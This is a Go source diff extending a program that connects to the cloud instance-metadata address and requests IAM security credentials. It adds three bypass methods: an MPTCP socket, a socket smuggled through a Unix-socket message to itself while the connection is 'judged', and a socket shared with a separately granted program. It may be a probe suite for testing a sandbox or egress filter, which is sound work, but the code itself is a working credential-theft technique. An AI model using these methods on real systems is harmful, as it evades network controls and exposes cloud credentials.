@@ -6,11 +6,15 @@ import (
 	"fmt"
 	"net"
 	"os"
+	"os/exec"
 	"syscall"
+	"time"
 )
 
 func main() {
-	ways := map[string]func([]string) error{"bind": bind, "mark": mark, "direct": direct}
+	ways := map[string]func([]string) error{
+		"bind": bind, "mark": mark, "direct": direct, "multipath": multipath, "flight": flight, "inherit": inherit,
+	}
 	way := ways[os.Args[1]]
 	if way == nil {
 		fmt.Fprintln(os.Stderr, "no such way")
@@ -95,10 +99,97 @@ func direct(args []string) error {
 	return talk(fd)
 }
 
-func talk(fd int) error {
-	if _, err := syscall.Write(fd, []byte("GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\r\n\r\n")); err != nil {
+func connect(protocol int) (int, error) {
+	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_STREAM, protocol)
+	if err != nil {
+		return -1, err
+	}
+	return fd, syscall.Connect(fd, address("169.254.169.254", 80))
+}
+
+// multipath speaks MPTCP.
+func multipath([]string) error {
+	const mptcp = 262 // IPPROTO_MPTCP
+	fd, err := connect(mptcp)
+	if err != nil {
 		return err
 	}
+	return talk(fd)
+}
+
+func request(token string) []byte {
+	return []byte("GET /latest/meta-data/iam/security-credentials/ HTTP/1.1\r\nX-aws-ec2-metadata-token: " + token + "\r\nConnection: close\r\n\r\n")
+}
+
+// flight sends a request, hides the socket in a message to itself while it is
+// judged, and takes it back for the answer.
+func flight(args []string) error {
+	fd, err := connect(0)
+	if err != nil {
+		return err
+	}
+	pair, err := syscall.Socketpair(syscall.AF_UNIX, syscall.SOCK_STREAM, 0)
+	if err != nil {
+		return err
+	}
+	half := request(args[0])
+	if _, err := syscall.Write(fd, half[:len(half)-2]); err != nil {
+		return err
+	}
+	dup, err := syscall.Dup(fd)
+	if err != nil {
+		return err
+	}
+	if err := syscall.Sendmsg(pair[0], []byte{0}, syscall.UnixRights(fd), nil, 0); err != nil {
+		return err
+	}
+	syscall.Close(fd)
+	if _, err := syscall.Write(dup, half[len(half)-2:]); err != nil {
+		return err
+	}
+	syscall.Close(dup)
+	time.Sleep(300 * time.Millisecond)
+	oob := make([]byte, 64)
+	_, n, _, _, err := syscall.Recvmsg(pair[1], make([]byte, 1), oob, 0)
+	if err != nil {
+		return err
+	}
+	messages, err := syscall.ParseSocketControlMessage(oob[:n])
+	if err != nil {
+		return err
+	}
+	back, err := syscall.ParseUnixRights(&messages[0])
+	if err != nil {
+		return err
+	}
+	return show(back[0])
+}
+
+// inherit lets a granted program hold the socket, too, and sends the request
+// itself.
+func inherit(args []string) error {
+	fd, err := connect(0)
+	if err != nil {
+		return err
+	}
+	cmd := exec.Command(args[1])
+	cmd.ExtraFiles = []*os.File{os.NewFile(uintptr(fd), "socket")}
+	in, err := cmd.StdinPipe()
+	if err != nil {
+		return err
+	}
+	if err := cmd.Start(); err != nil {
+		return err
+	}
+	defer cmd.Wait()
+	defer in.Close()
+	if _, err := syscall.Write(fd, request(args[0])); err != nil {
+		return err
+	}
+	return show(fd)
+}
+
+func show(fd int) error {
 	b := make([]byte, 4096)
 	n, err := syscall.Read(fd, b)
 	if err != nil {
@@ -106,4 +197,11 @@ func talk(fd int) error {
 	}
 	fmt.Printf("%s\n", b[:n])
 	return nil
+}
+
+func talk(fd int) error {
+	if _, err := syscall.Write(fd, []byte("GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\r\n\r\n")); err != nil {
+		return err
+	}
+	return show(fd)
 }
